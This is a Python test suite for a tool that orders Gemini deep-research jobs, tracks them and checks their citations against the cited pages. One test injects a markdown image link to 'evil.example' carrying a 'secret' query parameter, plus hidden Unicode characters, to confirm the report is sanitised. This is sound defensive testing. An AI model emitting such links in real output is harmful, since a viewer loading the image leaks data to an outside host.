"""A Gemini research: one order, followed to its end whatever happens, and compared with its sources."""

import threading
from typing import Any

import pytest

from actors import task as tasks
from actors.archive import LocalArchive
from actors.keys import Credential
from actors.ports import Parsed
from actors.replay import replay
from actors.researcher import Researcher
from events.home import Home
from projections.views import Views
from tests.emulators import BriskWorld, HeldKeys, PlainParser
from tests.gemini_emulator import KEY, REPORT, GeminiEmulator
from tests.gemini_tasks import (
    BRISK,
    QUESTION,
    NoCorpus,
    emulator,
    enter,
    facts,
    kinds,
    provider,
    run,
    start,
    until,
    world,
)
from traces.verify import verify_home

__all__ = ["emulator", "provider"]


def result(home: Home, task: str) -> dict[str, Any]:
    return Views(home).result(task).result


# -- what comes of it ------------------------------------------------------------------------------


def test_a_research_orders_one_job_and_brings_back_its_report(
    home: Home, provider: GeminiEmulator
) -> None:
    task = enter(home)
    seen = run(home, task, world(provider))
    assert seen.phase == "completed"
    assert provider.created == [QUESTION]
    assert result(home, task)["answer"] == REPORT.strip()
    assert (seen.tokens_in, seen.tokens_out) == (340_000, 20_000)
    assert seen.cost_usd == pytest.approx(0.818)
    assert verify_home(home.root).faults == []


def test_the_jobs_id_is_recorded_before_anything_else_is_done_with_it(
    home: Home, provider: GeminiEmulator
) -> None:
    task = enter(home)
    run(home, task, world(provider))
    names = kinds(home, f"{task}.r1")
    assert names[names.index("job_created") - 1] == "call_answered"
    assert "call_asked" not in names[names.index("call_answered") : names.index("job_created")]
    (created,) = facts(home, task, "job_created")
    assert created["interaction"] == "v1_job1"


def test_what_the_provider_thinks_and_searches_becomes_facts(
    home: Home, provider: GeminiEmulator
) -> None:
    task = enter(home)
    run(home, task, world(provider))
    assert facts(home, task, "thought_summarised")[0]["text"] == "Planning: two questions."
    searches = facts(home, task, "search_made")
    assert searches[0]["queries"] == ["heat pumps emissions"]
    assert searches[1]["urls"][0] == provider.cited_url("study")


def test_without_streams_the_same_facts_come_at_the_end(
    home: Home, provider: GeminiEmulator
) -> None:
    provider.streams, provider.polls = False, ["queued", "in_progress", "in_progress"]
    task = enter(home)
    run(home, task, world(provider))
    assert [each["status"] for each in facts(home, task, "job_polled")] == [
        "in_progress",
        "completed",
    ]
    assert len(facts(home, task, "thought_summarised")) == 1
    assert len(facts(home, task, "search_made")) == 2


def test_each_cited_sentence_is_looked_for_in_its_source(
    home: Home, provider: GeminiEmulator
) -> None:
    task = enter(home)
    run(home, task, world(provider))
    checked = facts(home, task, "sentence_checked")
    assert [(each["outcome"], each["match"]) for each in checked] == [
        ("supported", "exact"),
        ("supported", "normalised"),
        ("not_found", "none"),
        ("unreachable", "none"),
    ]
    tally = result(home, task)["grounding"]
    assert (tally["supported"], tally["not_found"], tally["unreachable"]) == (2, 1, 1)
    assert "2 stand there word for word" in Views(home).result(task).report


PARAPHRASE = (
    "# Heat pumps\n\nIn cold climates emissions are cut by 60% with heat pumps [cite: 1]. "
    "In cold climates emissions are cut by 70% with heat pumps [cite: 2]. "
    "So everybody who has a cold house should buy one at once.\n"
)


def test_a_sentence_that_its_source_says_in_other_words_counts_and_another_figure_does_not(
    home: Home, provider: GeminiEmulator
) -> None:
    provider.report, provider.cited = PARAPHRASE, ["study", "study"]
    task = enter(home)
    run(home, task, world(provider))
    found = result(home, task)
    tally = found["grounding"]
    assert (tally["supported"], tally["not_found"], tally["in_other_words"]) == (0, 2, 1)
    checked = facts(home, task, "sentence_checked")
    assert [each["support"] for each in checked] == tally["supports"]
    assert tally["supports"][0] >= 0.5 > tally["supports"][1]
    assert found["confidence_factors"]["num_corroborating_sources"] == 1
    report = Views(home).result(task).report
    assert "(in the source in other words, [1])" in report
    assert "1 cited sentence of 2 could not be found" in str(found["gaps"])


def test_what_a_report_says_without_a_source_is_marked_as_inference(
    home: Home, provider: GeminiEmulator
) -> None:
    provider.report, provider.cited = PARAPHRASE, ["study", "study"]
    task = enter(home)
    run(home, task, world(provider))
    own = result(home, task)["sentences"][-1]
    assert own["text"] == "So everybody who has a cold house should buy one at once."
    assert own["citations"] == []
    assert "Inference, without a source: 1 sentence" in Views(home).result(task).report
    assert replay(home, task).differences == []


def test_citations_are_verbatim_and_name_the_page_behind_the_redirect(
    home: Home, provider: GeminiEmulator
) -> None:
    task = enter(home)
    run(home, task, world(provider))
    citations = result(home, task)["citations"]
    assert [each["locator"] for each in citations] == [
        f"{provider.url}/pages/{name}" for name in ("study", "review", "opinion")
    ]
    for each in citations:
        text = home.blobs.get_text(each["text_hash"])
        assert text[each["start"] : each["end"]] == each["raw_excerpt"]
        assert b"<html>" in home.blobs.get(each["content_hash"])


def test_every_cited_source_is_named_read_or_not(home: Home, provider: GeminiEmulator) -> None:
    task = enter(home)
    run(home, task, world(provider))
    sources = result(home, task)["grounding"]["sources"]
    assert [each["title"] for each in sources] == ["The study", "The review", "The opinion", "gone"]
    assert sources[0]["url"] == f"{provider.url}/pages/study"
    assert sources[3]["url"] == provider.cited_url("gone")
    assert (sources[0]["reason"], sources[3]["content_hash"]) == (None, None)
    assert "404" in sources[3]["reason"]


def test_a_source_that_cannot_be_read_is_a_gap(home: Home, provider: GeminiEmulator) -> None:
    task = enter(home)
    run(home, task, world(provider))
    gaps = {gap["topic"]: gap for gap in result(home, task)["gaps"]}
    assert gaps["gone"]["category"] == "source_not_found"
    assert "404" in gaps["gone"]["detail"]


def test_a_finished_research_replays_with_the_network_cut(
    home: Home, provider: GeminiEmulator
) -> None:
    task = enter(home)
    provider.fail("GET", "v1_job1", status=503, times=2)
    run(home, task, world(provider))
    asked = len(provider.requests)
    again = replay(home, task)
    assert again.differences == []
    assert again.citations == 3
    assert len(provider.requests) == asked


def test_nothing_that_a_viewer_would_load_gets_into_the_report(
    home: Home, provider: GeminiEmulator
) -> None:
    provider.report = REPORT + "\n![look](https://evil.example/?q=secret)\n\u202ehidden\U000e0041"
    task = enter(home)
    run(home, task, world(provider))
    report = Views(home).result(task).report
    assert "evil.example" not in report
    assert "\u202e" not in report
    assert "\U000e0041" not in report


def test_the_context_goes_along_with_the_question(home: Home, provider: GeminiEmulator) -> None:
    task = enter(home, context="For a house from 1920.", model="deep-research-max-preview-04-2026")
    run(home, task, world(provider))
    (order,) = provider.asked("POST")
    assert order.json["agent"] == "deep-research-max-preview-04-2026"
    assert order.json["input"].endswith("Context: For a house from 1920.")
    assert result(home, task)["cost_metadata"]["model_id"] == "deep-research-max-preview-04-2026"


def test_a_page_that_breaks_the_parser_does_not_break_the_research(
    home: Home, provider: GeminiEmulator
) -> None:
    class Fragile(PlainParser):
        def parse(self, name: str, raw: bytes) -> Parsed:
            if b"study" in raw:
                raise RecursionError
            return super().parse(name, raw)

    keys = HeldKeys(Credential(KEY, provider.url))
    task = enter(home)
    assert run(home, task, BriskWorld(keys, Fragile())).phase == "completed"
    assert result(home, task)["grounding"]["unreachable"] == 2


# -- how it can end --------------------------------------------------------------------------------


@pytest.mark.parametrize("streams", [True, False])
def test_a_failed_job_fails_the_task_in_the_providers_words(
    home: Home, provider: GeminiEmulator, streams: bool
) -> None:
    provider.final, provider.streams = "failed", streams
    provider.errors = [{"code": "safety", "message": "The question was declined."}]
    task = enter(home)
    seen = run(home, task, world(provider))
    assert (seen.phase, seen.failure_code) == ("failed", "job_failed")
    assert "The question was declined. (safety)" in (seen.failure_message or "")
    assert seen.cost_usd > 0


@pytest.mark.parametrize("status", ["incomplete", "budget_exceeded"])
def test_a_job_that_ended_early_counts_with_what_it_wrote(
    home: Home, provider: GeminiEmulator, status: str
) -> None:
    provider.final = status
    task = enter(home)
    assert run(home, task, world(provider)).phase == "completed"
    found = result(home, task)
    assert found["cost_metadata"]["budget_exhausted"]
    assert found["gaps"][0]["category"] == "budget_exhausted"
    assert found["citations"]


@pytest.mark.parametrize(
    "status", ["cancelled", "requires_action", "requires_continuation", "moon"]
)
def test_a_job_that_ended_without_a_report_fails_and_says_why(
    home: Home, provider: GeminiEmulator, status: str
) -> None:
    provider.streams, provider.final = False, status
    task = enter(home)
    seen = run(home, task, world(provider))
    assert seen.phase == "failed"
    assert seen.failure_message
    assert len(provider.created) == 1


def test_a_job_that_waits_for_somebody_is_called_off(home: Home, provider: GeminiEmulator) -> None:
    provider.final = "requires_action"
    run(home, enter(home), world(provider))
    assert len(provider.asked("POST", "/cancel")) == 1


def test_a_completed_job_without_a_report_is_a_failure(
    home: Home, provider: GeminiEmulator
) -> None:
    provider.report = ""
    provider.cited = []
    provider.steps = list  # type: ignore[method-assign]
    try:
        seen = run(home, enter(home), world(provider))
    finally:
        del provider.steps
    assert (seen.phase, seen.failure_code) == ("failed", "job_failed")


# -- what can go wrong on the way ------------------------------------------------------------------

PASSING: list[dict[str, Any]] = [
    {"status": 401},
    {"status": 403},
    {"status": 429, "headers": {"retry-after": "31536000"}},
    {"status": 500},
    {"status": 503, "body": "<html>"},
    {"drop": True},
    {"status": 200, "body": "{"},
    {"status": 200, "body": ""},
    {"status": 404, "body": "{}"},
]


@pytest.mark.parametrize("fault", PASSING, ids=lambda fault: str(next(iter(fault.items()))))
def test_trouble_while_a_job_runs_is_waited_out_and_said(
    home: Home, provider: GeminiEmulator, fault: dict[str, Any]
) -> None:
    provider.streams = False
    provider.polls = ["in_progress"] * 3
    task = enter(home)
    provider.fail("GET", "stream=false", times=3, **fault)
    seen = run(home, task, world(provider))
    assert seen.phase == "completed"
    assert seen.calls_failed >= 3
    waited = facts(home, task, "provider_awaited")
    assert waited
    assert len(facts(home, task, "provider_answered")) == len(waited) == 1
    assert len(provider.created) == 1
    assert KEY.encode() not in home.path(f"{task}.r1").read_bytes()


def test_a_job_that_the_provider_no_longer_knows_ends_the_task(
    home: Home, provider: GeminiEmulator
) -> None:
    provider.streams = False
    task = enter(home)
    provider.fail("GET", "v1_job1", status=404, times=-1)
    seen = run(home, task, world(provider))
    assert (seen.phase, seen.failure_code) == ("failed", "request_refused")
    assert "emulated 404" in (seen.failure_message or "")


@pytest.mark.parametrize("status", [401, 403, 400])
def test_a_refused_order_ends_the_task_in_the_providers_words(
    home: Home, provider: GeminiEmulator, status: int
) -> None:
    provider.fail("POST", status=status)
    task = enter(home)
    seen = run(home, task, world(provider))
    assert seen.phase == "failed"
    assert seen.failure_code in {"key_refused", "request_refused"}
    assert f"emulated {status}" in (seen.failure_message or "")
    assert provider.created == []


def test_an_order_that_was_certainly_not_taken_is_placed_again(
    home: Home, provider: GeminiEmulator
) -> None:
    provider.fail("POST", status=429, headers={"retry-after": "3600"}, times=3)
    task = enter(home)
    assert run(home, task, world(provider)).phase == "completed"
    assert len(provider.created) == 1
    assert len(provider.asked("POST")) == 4


@pytest.mark.parametrize("fault", [{"status": 503}, {"drop": True}, {"status": 200, "body": "{"}])
def test_an_order_that_may_have_been_taken_is_never_placed_again(
    home: Home, provider: GeminiEmulator, fault: dict[str, Any]
) -> None:
    provider.fail("POST", after_doing=True, **fault)
    task = enter(home)
    seen = run(home, task, world(provider))
    assert (seen.phase, seen.failure_code) == ("failed", "fate_unknown")
    assert "It may be running there" in (seen.failure_message or "")
    assert len(provider.created) == len(provider.asked("POST")) == 1


# -- keys ------------------------------------------------------------------------------------------


def test_a_task_without_a_key_waits_says_so_and_goes_on(
    home: Home, provider: GeminiEmulator
) -> None:
    keys = HeldKeys(None)
    task = enter(home)
    start(home, task, BriskWorld(keys, PlainParser()))
    views = Views(home)
    until(lambda: "GEMINI_API_KEY" in views.status(task).current_action)
    assert provider.requests == []
    keys.held = Credential(KEY, provider.url)
    until(lambda: views.status(task).ended)
    assert views.status(task).phase == "completed"
    assert len(facts(home, task, "keys_awaited")) == len(facts(home, task, "keys_arrived")) == 1


def test_a_key_that_is_replaced_while_a_job_runs_is_used(
    home: Home, provider: GeminiEmulator
) -> None:
    provider.streams, provider.endless = False, True
    keys = HeldKeys(Credential(KEY, provider.url))
    task = enter(home)
    start(home, task, BriskWorld(keys, PlainParser()))
    until(lambda: provider.asked("GET"))
    provider.key = "another-key-0123456789"
    until(lambda: facts(home, task, "provider_awaited"))
    provider.endless = False
    keys.held = Credential("another-key-0123456789", provider.url)
    until(lambda: Views(home).status(task).phase == "completed")
    assert len(provider.created) == 1


# -- stopping --------------------------------------------------------------------------------------


def test_a_cancelled_research_is_called_off_at_the_provider(
    home: Home, provider: GeminiEmulator
) -> None:
    provider.silent_after = 9
    task = enter(home)
    host = start(home, task, world(provider))
    until(lambda: len(facts(home, task, "search_made")) == 1)
    host.stop("cancelled", save_partial=True)
    until(lambda: Views(home).status(task).ended)
    seen = Views(home).status(task)
    assert seen.phase == "cancelled"
    assert provider.jobs["v1_job1"]["status"] == "cancelled"
    assert "Searched for heat pumps emissions" in Views(home).result(task).report
    assert seen.cost_usd > 0
    assert verify_home(home.root).faults == []


def test_a_report_that_had_begun_is_kept(home: Home, provider: GeminiEmulator) -> None:
    provider.endless = True
    task = enter(home)
    host = start(home, task, world(provider))
    until(lambda: len(facts(home, task, "search_made")) == 2)
    until(lambda: len(provider.asked("GET", "stream=true")) > 1)
    host.stop("cancelled", save_partial=True)
    until(lambda: Views(home).status(task).ended)
    assert Views(home).status(task).phase == "cancelled"


def test_nothing_is_kept_when_nothing_is_to_be_kept(home: Home, provider: GeminiEmulator) -> None:
    provider.silent_after = 9
    task = enter(home)
    host = start(home, task, world(provider))
    until(lambda: facts(home, task, "search_made"))
    host.stop("cancelled", save_partial=False)
    until(lambda: Views(home).status(task).ended)
    assert Views(home).status(task).result is None
    assert provider.jobs["v1_job1"]["status"] == "cancelled"


def test_a_job_that_never_ends_is_called_off_when_the_time_is_up(
    home: Home, provider: GeminiEmulator
) -> None:
    provider.streams, provider.endless = False, True
    task = enter(home, max_wait_s=0.5)
    start(home, task, world(provider))
    until(lambda: Views(home).status(task).ended)
    seen = Views(home).status(task)
    assert (seen.phase, seen.failure_code) == ("failed", "timed_out")
    assert provider.jobs["v1_job1"]["status"] == "cancelled"


def test_hours_of_trouble_end_when_the_time_is_up(home: Home, provider: GeminiEmulator) -> None:
    task = enter(home, max_wait_s=0.7)
    provider.fail("GET", "v1_job1", status=500, times=-1)
    start(home, task, world(provider))
    until(lambda: Views(home).status(task).ended)
    assert Views(home).status(task).failure_code == "timed_out"
    assert len(provider.asked("POST", "/cancel")) == 1


def test_a_provider_that_cannot_be_told_does_not_hold_up_a_cancel(
    home: Home, provider: GeminiEmulator
) -> None:
    provider.silent_after = 9
    task = enter(home)
    host = start(home, task, world(provider))
    until(lambda: facts(home, task, "search_made"))
    provider.fail("POST", "/cancel", drop=True, times=-1)
    provider.fail("GET", "stream=false", drop=True, times=-1)
    host.stop("cancelled", save_partial=True)
    until(lambda: Views(home).status(task).ended)
    assert Views(home).status(task).phase == "cancelled"
    assert [each["code"] for each in facts(home, task, "call_failed")][-1] == "provider_silent"


def test_a_report_that_is_there_survives_a_stop_while_its_sources_are_read(
    home: Home, provider: GeminiEmulator
) -> None:
    provider.fail("GET", "/pages/study", delay=30.0, times=-1)
    task = enter(home)
    host = start(home, task, world(provider))
    until(lambda: len(facts(home, task, "call_failed")) == 1)
    host.stop("cancelled", save_partial=True)
    until(lambda: Views(home).status(task).ended)
    found = result(home, task)
    assert found["answer"] == REPORT.strip()
    assert found["grounding"]["unreachable"] == 2
    assert provider.asked("POST", "/cancel") == []


def test_a_task_stopped_before_its_order_orders_nothing(
    home: Home, provider: GeminiEmulator
) -> None:
    task = enter(home)
    archive = LocalArchive(home)
    made = Researcher(
        archive,
        NoCorpus(),
        f"{task}.r1",
        "gemini",
        QUESTION,
        archive.brief(task),
        world(provider),
        BRISK,
    )
    made.stop.set()
    assert made.run().failure == "call_cut"
    # A poll left over from another test's job may still come in; nothing else may.
    stray = [r for r in provider.requests if r.method == "GET" and "/interactions/" in r.path]
    assert [each for each in provider.requests if each not in stray] == []


def test_who_must_call_something_off_has_longer_to_end() -> None:
    assert tasks.LAST_WORDS["gemini"] > tasks.PATIENCE


# -- many at once ----------------------------------------------------------------------------------


@pytest.mark.parametrize("count", [20, pytest.param(100, marks=pytest.mark.full)])
def test_many_researches_at_once_order_one_job_each(
    home: Home, provider: GeminiEmulator, count: int
) -> None:
    provider.fail("GET", "stream=true", status=500, times=20)
    provider.fail("POST", status=429, times=10)
    ordered = [enter(home, context=f"House number {number}.") for number in range(count)]
    outside = world(provider)
    threads = [threading.Thread(target=run, args=(home, task, outside)) for task in ordered]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(100)
    views = Views(home)
    assert [views.status(task).phase for task in ordered] == ["completed"] * count
    assert len(provider.created) == len(set(provider.created)) == count


# -- caps ------------------------------------------------------------------------------------------


def test_a_cap_that_is_reached_stops_before_anything_is_ordered(
    home: Home, provider: GeminiEmulator
) -> None:
    task = enter(home, task_cap_usd=0.0)
    seen = run(home, task, world(provider))
    assert (seen.phase, seen.failure_code) == ("failed", "spending_cap_reached")
    assert provider.requests == []


def test_what_the_day_has_cost_already_counts(home: Home, provider: GeminiEmulator) -> None:
    task, archive = enter(home, daily_cap_usd=5.0), LocalArchive(home)
    brief, name = archive.brief(task), f"{task}.r1"
    arguments = archive, NoCorpus(), name, "gemini", QUESTION, brief, world(provider), BRISK
    report = Researcher(*arguments, lambda: 5.01).run()
    assert report.failure == "spending_cap_reached"
    assert provider.requests == []


def test_following_a_job_is_free_whatever_it_costs(home: Home, provider: GeminiEmulator) -> None:
    task = enter(home, task_cap_usd=0.01)
    assert run(home, task, world(provider)).phase == "completed"
